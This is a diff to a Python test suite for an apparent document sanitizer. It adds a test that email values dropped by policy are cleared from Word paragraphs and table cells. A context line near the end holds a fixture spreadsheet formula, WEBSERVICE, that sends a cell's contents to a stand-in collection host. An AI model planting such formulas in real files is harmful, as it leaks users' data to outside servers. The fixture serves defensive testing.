@@ -312,6 +312,15 @@ def test_cells(before: str, after: str, policy: dict[str, Any]) -> None:
     assert MAIL not in found["xl/sharedStrings.xml"].decode() or "<v>1</v>" not in before
 
 
+def test_a_document_loses_the_paragraphs_of_dropped_values_and_no_others() -> None:
+    policy = {"rules": [{"rule": "pii.email", "action": "drop-cell"}]}
+    table = "<w:tbl><w:tr><w:tc>{}</w:tc><w:tc><w:p><w:r><w:t>Total</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
+    paragraph = "<w:p><w:r><w:t>{}</w:t></w:r>{}</w:p>"
+    before = f"{paragraph.format('Ask ', BOLD.format(MAIL))}{paragraph.format('Regards', '')}{table.format(paragraph.format(MAIL, ''))}"
+    after = f"{paragraph.format('', BOLD.format(''))}{paragraph.format('Regards', '')}{table.format(paragraph.format('', ''))}"
+    assert body(cleaned(building.docx(before), "a.docx", policy)) == after
+
+
 def test_the_chain_of_calculation_goes_with_a_formula() -> None:
     """A program takes a chain with a cell that has no formula for damage. It makes a missing one anew."""
     sheet = '<worksheet><sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://collect.example-host.com/?q="&amp;B1)</f><v>x</v></c></row></sheetData></worksheet>'
